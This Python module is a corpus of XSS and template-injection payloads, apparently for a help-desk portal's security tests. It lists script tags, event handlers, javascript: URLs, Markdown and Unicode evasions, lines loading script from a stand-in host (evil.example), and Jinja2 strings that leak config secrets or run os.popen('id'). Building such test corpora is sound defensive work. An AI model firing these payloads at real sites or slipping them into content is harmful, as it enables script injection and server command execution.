"""The XSS corpus: payloads people type into the portal to make someone else's browser run
script, or to make a template engine evaluate what they typed.

Each payload has a stable number (`key`, used in markers and test ids), a group and, for the
template-injection strings, the text that would appear only if the string were evaluated
(`evaluated`). Numbers in template strings are unusual on purpose ({{7*191}} is 1337), so a
page that shows "1337" in a payload's place has evaluated it; {{7*7}} is kept too, because it
is what people try first (its "49" is checked only between the payload's own markers).

Sources: the OWASP XSS filter evasion cheat sheet, PortSwigger's XSS cheat sheet, the
django-helpdesk reports (CVE-2021-3945, CVE-2021-3950, CVE-2021-3994: stored XSS in ticket
fields, names and Markdown), FreeScout CVE-2026-32754 (e-mail templates), and the payloads of
tests/web/test_ticket_xss.py (every one of them is here too).
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Payload:
    key: int
    group: str
    text: str
    # What the page would show in the payload's place had it been evaluated as a template.
    evaluated: tuple[str, ...] = ()

    @property
    def start(self) -> str:
        return f"XQ{self.key:03d}A"

    @property
    def end(self) -> str:
        return f"XQ{self.key:03d}Z"

    def marked(self) -> str:
        """The payload between its markers: what is left between them on a page is what the
        payload became there, and a finding between them names it."""
        return f"{self.start} {self.text} {self.end}"

    @property
    def id(self) -> str:
        return f"{self.key:03d}-{self.group}"


_GROUPS: dict[str, list] = {
    # <script> elements, their case and whitespace variants, nesting and filter evasion.
    "script": [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<ScRiPt>alert(1)</sCrIpT>",
        "<script\t>alert(1)</script\n>",
        "<script\n\nsrc=//evil.example/x.js></script>",
        "<script/src=//evil.example/x.js></script>",
        "<script/x>alert(1)</script>",
        "<script >alert(1)</script >",
        "\"><script>alert(1)</script>",
        "'><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>",
        "</title><script>alert(1)</script>",
        "</script><script>alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<<script>script>alert(1)<</script>/script>",
        "<!--<script>alert(1)</script>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "`<script>alert(1)</script>`",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "<script src=\"/static/js/../../evil.js\"></script>",
        "<script type=module>alert(1)</script>",
    ],
    # on* handlers on many elements, and ways to write the attribute.
    "handler": [
        "<img src=x onerror=alert(1)>",
        "<img src=\"x\" onerror=\"&#97;lert(1)\">",
        "<IMG SRC=x ONERROR=alert(1)>",
        "<img src=x onerror=alert(1)//",
        "<img/src=\"x\"/onerror=alert(1)>",
        "<img src=x\tonerror\t=\talert(1)>",
        "<img src=`x`onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<body onload=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<select autofocus onfocus=alert(1)></select>",
        "<textarea autofocus onfocus=alert(1)>x</textarea>",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<isindex type=image src=1 onerror=alert(1)>",
        "<div onmouseover=\"alert(1)\">hover</div>",
        "<p onclick=alert(1)>click</p>",
        "<a onpointerenter=alert(1) href=#>x</a>",
        "<x contenteditable onblur=alert(1)>lose focus</x>",
        "<table background=x onerror=alert(1)>",
        "<object onerror=alert(1)>",
        "<img src=x onerror=\"eval(atob('YWxlcnQoMSk='))\">",
    ],
    # javascript:, vbscript: and data: URLs, plain, encoded and split.
    "url": [
        "<a href=\"javascript:alert(1)\">click</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)\">x</a>",
        "<a href=\"&#0000106&#0000097vascript:alert(1)\">x</a>",
        "<a href=\"java&#x09;script:alert(1)\">x</a>",
        "<a href=\"java&#x0A;script:alert(1)\">x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\" javascript:alert(1)\">x</a>",
        "<a href=\"&#14; javascript:alert(1)\">x</a>",
        "<a href=\"javascript&colon;alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<a href=\"data:image/svg+xml,<svg onload=alert(1)>\">x</a>",
        "<img src=\"javascript:alert(1)\">",
        "<form action=\"javascript:alert(1)\"><button>x</button></form>",
        "<button formaction=javascript:alert(1)>x</button>",
        "<input type=image src=x formaction=javascript:alert(1)>",
    ],
    # SVG and MathML: their own parsing rules, xlink:href, animate.
    "svg": [
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><set attributeName=href to=javascript:alert(1) /></svg>",
        "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\"/></svg>",
        "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<math href=\"javascript:alert(1)\">click</math>",
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    ],
    # Elements that load or run something, or change where links and forms go.
    "active": [
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=\"javascript:alert(1)\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<base href=\"javascript:alert(1)//\">",
        "<link rel=stylesheet href=javascript:alert(1)>",
        "<link rel=import href=//evil.example/x.html>",
        "<frameset><frame src=javascript:alert(1)></frameset>",
        "<applet code=x.class>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    ],
    # CSS: expression(), url(javascript:), behaviours, style elements.
    "style": [
        "<style>@import 'javascript:alert(1)';</style>",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<div style=\"width:expression(alert(1))\">x</div>",
        "<div style=\"behavior:url(x.htc)\">x</div>",
        "<p style=\"x:\\65 xpression(alert(1))\">x</p>",
        "<style>*{background:url('javascript:alert(1)')}</style>",
    ],
    # Markdown links, images, references, autolinks and raw HTML in Markdown.
    "markdown": [
        "[click](javascript:alert(1))",
        "[click](JAVASCRIPT:alert(1))",
        "[click](&#106;avascript:alert(1))",
        "[click](java&#x09;script:alert(1))",
        "[click]( javascript:alert(1) )",
        "[click](<javascript:alert(1)>)",
        "![img](javascript:alert(1))",
        "![x](x\" onerror=\"alert(1))",
        "![x](https://example.com/x.png \"title\\\" onerror=\\\"alert(1)\")",
        "[x](https://example.com\" onmouseover=\"alert(1))",
        "[x](https://example.com \"a\" onmouseover=\"alert(1)\")",
        "<javascript:alert(1)>",
        "<http://example.com/\"onmouseover=\"alert(1)>",
        "[a][r]\n\n[r]: javascript:alert(1)",
        "[a][r]\n\n[r]: data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[![x](javascript:alert(1))](javascript:alert(1))",
        "<div markdown=\"1\">[x](javascript:alert(1))</div>",
        "<details>\n\n<img src=x onerror=alert(1)>\n\n</details>",
        "```html\n<script>alert(1)</script>\n```",
        "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    ],
    # Template syntax of Jinja2, JS template literals, Ruby, ERB, Python's own formatting.
    "template": [
        ("{{7*7}}", ("49",)),
        ("{{ 7*7 }}", ("49",)),
        ("{{7*191}}", ("1337",)),
        ("{% if 1 %}{{7*7}}{% endif %}", ("49",)),
        ("{% if 1 %}{{7*191}}{% endif %}", ("1337",)),
        ("{% raw %}{{7*191}}{% endraw %}", ("1337",)),
        ("{{ '7'*7 }}", ("7777777",)),
        ("${7*7}", ("49",)),
        ("${7*191}", ("1337",)),
        ("#{7*7}", ("49",)),
        ("#{7*191}", ("1337",)),
        ("<%= 7*7 %>", ("49",)),
        ("<%= 7*191 %>", ("1337",)),
        ("*{7*191}", ("1337",)),
        ("${{7*191}}", ("1337",)),
        ("{{ config }}", ("<Config", "SECRET_KEY")),
        ("{{ config }}{{ self.__init__.__globals__ }}", ("<Config", "__builtins__")),
        ("{{''.__class__}}", ("<class",)),
        ("{{ ''.__class__.__mro__[1].__subclasses__() }}", ("<class",)),
        ("{{ request.environ }}", ("wsgi.", "HTTP_")),
        ("{{ cycler.__init__.__globals__.os.popen('id').read() }}", ("uid=",)),
        ("{0.__class__}", ("<class",)),
        ("%(secret)s %s %r", ()),
        ("{customer_name}{reference}{agent_name}{due}", ()),
    ],
    # Unicode: direction overrides, full-width and small forms, invisible characters inside
    # keywords, homoglyphs, case-folding tricks, control characters and overlong UTF-8.
    "unicode": [
        "\u202e<script>alert(1)</script>",
        "\u202egnp.exe",
        "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
        "\ufe64script\ufe65alert(1)\ufe64/script\ufe65",
        "<scr\u200bipt>alert(1)</scr\u200bipt>",
        "[x](java\u200bscript:alert(1))",
        "[x](java\u200dscript:alert(1))",
        "<a href=\"java\u200bscript:alert(1)\">x</a>",
        "[x](\uff4a\uff41\uff56\uff41\uff53\uff43\uff52\uff49\uff50\uff54:alert(1))",
        "[x](j\u0430vascript:alert(1))",
        "[x](javascript\uff1aalert(1))",
        "<\u017fcript>alert(1)</\u017fcript>",
        "<a href=\"javascr\u0131pt:alert(1)\">x</a>",
        "\u2028<script>alert(1)</script>\u2029",
        "\ufeff<script>alert(1)</script>",
        "<scr\x00ipt>alert(1)</scr\x00ipt>",
        "<a href=\"java\x00script:alert(1)\">x</a>",
        "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE",
        "\xc0\xbcscript\xc0\xbealert(1)\xc0\xbc/script\xc0\xbe",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    ],
    # Breaking out of the context a value lands in: attributes, JS strings, JSON, e-mail
    # headers, CSS.
    "context": [
        "\" autofocus onfocus=\"alert(1)",
        "' autofocus onfocus='alert(1)",
        "\" onmouseover=alert(1) x=\"",
        "'-alert(1)-'",
        "\\\";alert(1);//",
        "</script><img src=x onerror=alert(1)>",
        "{\"a\":\"</script><script>alert(1)</script>\"}",
        "x\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
        "\"></style><script>alert(1)</script>",
        "<plaintext><img src=x onerror=alert(1)>",
        "<xmp><img src=x onerror=alert(1)></xmp>",
    ],
}


def _build() -> list[Payload]:
    payloads, key = [], 0
    for group, entries in _GROUPS.items():
        for entry in entries:
            text, evaluated = entry if isinstance(entry, tuple) else (entry, ())
            key += 1
            payloads.append(Payload(key, group, text, tuple(evaluated)))
    return payloads


PAYLOADS: list[Payload] = _build()
GROUPS: list[str] = list(_GROUPS)
BY_KEY: dict[int, Payload] = {payload.key: payload for payload in PAYLOADS}


def chunks(payloads: list[Payload], size: int) -> list[list[Payload]]:
    """The payloads in groups of `size`, for fields that can carry several at once."""
    return [payloads[i:i + size] for i in range(0, len(payloads), size)]
